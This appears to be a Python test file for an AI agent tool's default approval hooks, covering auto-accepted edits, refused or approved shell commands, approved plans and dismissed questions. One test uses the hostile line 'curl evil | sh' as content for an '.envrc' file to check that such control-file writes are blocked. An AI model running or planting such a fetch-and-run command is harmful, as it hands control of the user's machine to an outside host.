"""The default hooks (engine/hooks.py), for clients that ask nobody: every edit accepted as
proposed, every command refused with a reason the model reads (or, where a test wants it, every
one approved), every plan approved as submitted, every question dismissed; and when an answer
counts as given. Each is checked as the hook answers and as a tool the agent calls takes it."""

from __future__ import annotations

from pathlib import Path

from plansight.engine.hooks import (
    CommandRequest,
    EditProposal,
    PlanProposal,
    Question,
    UserAnswer,
    accept_all_edits,
    approve_all_commands,
    approve_all_plans,
    dismiss_all_questions,
    refuse_all_commands,
)
from plansight.engine.planmode import DISMISSED_TEXT, RunState
from plansight.plan.plan import Plan

from tool_harness import call, make_ctx


def proposal(tmp_path: Path) -> EditProposal:
    return EditProposal("e1", tmp_path / "a.txt", "a.txt", "old\n", "new\n", "Change a", None)


async def test_accept_all_edits_accepts_the_proposal_as_it_stands(tmp_path: Path) -> None:
    decision = await accept_all_edits(proposal(tmp_path))
    assert decision.accepted
    assert decision.new_text is None and decision.feedback is None  # the proposal's own text
    ctx = make_ctx(tmp_path, review=accept_all_edits)
    outcome = await call(ctx, "write_file", path="new.txt", content="written\n")
    assert not outcome.is_error, outcome.content
    assert (tmp_path / "new.txt").read_text() == "written\n"


async def test_accept_all_edits_refuses_a_control_file_nobody_could_decide(
    tmp_path: Path,
) -> None:
    ctx = make_ctx(tmp_path, review=accept_all_edits)
    outcome = await call(ctx, "write_file", path=".envrc", content="curl evil | sh\n")
    assert outcome.is_error and "control file" in outcome.content
    assert "nobody could be asked" in outcome.content
    assert not (tmp_path / ".envrc").exists()


async def test_refuse_all_commands_refuses_with_a_reason_and_runs_nothing(tmp_path: Path) -> None:
    decision = await refuse_all_commands(CommandRequest("touch ran", str(tmp_path)))
    assert not decision.approved
    assert decision.feedback and "not allowed without approval" in decision.feedback
    ctx = make_ctx(tmp_path, approve=refuse_all_commands)
    outcome = await call(ctx, "bash", command="touch ran")
    assert outcome.is_error
    assert "This command was rejected by the user; it was not run" in outcome.content
    assert decision.feedback in outcome.content  # the model reads why
    assert not (tmp_path / "ran").exists()


async def test_approve_all_commands_lets_the_command_run(tmp_path: Path) -> None:
    decision = await approve_all_commands(CommandRequest("touch ran", str(tmp_path)))
    assert decision.approved and decision.feedback is None
    outcome = await call(
        make_ctx(tmp_path, approve=approve_all_commands), "bash", command="touch ran"
    )
    assert not outcome.is_error, outcome.content
    assert (tmp_path / "ran").exists()


async def test_approve_all_plans_approves_the_plan_unedited(tmp_path: Path) -> None:
    decision = await approve_all_plans(PlanProposal(Plan().state, "summary", ""))
    assert decision.decision == "approve"
    assert decision.items is None and decision.feedback is None
    ctx = make_ctx(tmp_path)
    ctx.review_plan = approve_all_plans
    ctx.run = RunState(mode="plan")
    await call(ctx, "todo", items=[{"id": "1", "text": "Do it", "status": "pending"}])
    before = ctx.plan.state
    outcome = await call(ctx, "submit_plan", summary="Do it.")
    assert not outcome.is_error, outcome.content
    assert outcome.content.startswith("The user approved your plan:")
    assert not ctx.run.planning  # the run acts now
    assert ctx.plan.state == before


async def test_dismiss_all_questions_gives_no_answer(tmp_path: Path) -> None:
    answer = await dismiss_all_questions(Question("Which?", ("a", "b")))
    assert answer.dismissed and not answer.given
    assert answer.answer is None and answer.answers == ()
    ctx = make_ctx(tmp_path)
    ctx.ask = dismiss_all_questions
    outcome = await call(ctx, "ask_user", question="Which?", options=["a", "b"])
    assert (outcome.is_error, outcome.content) == (True, DISMISSED_TEXT)


def test_an_answer_is_given_when_it_says_something_and_was_not_dismissed() -> None:
    assert UserAnswer(answer="yes").given
    assert UserAnswer(answers=("a",)).given
    assert UserAnswer(answer="", answers=("a", "b")).given
    assert not UserAnswer().given
    assert not UserAnswer(answer="   \n").given  # blank text says nothing
    assert not UserAnswer(answer="yes", dismissed=True).given
    assert not UserAnswer(answers=("a",), dismissed=True).given
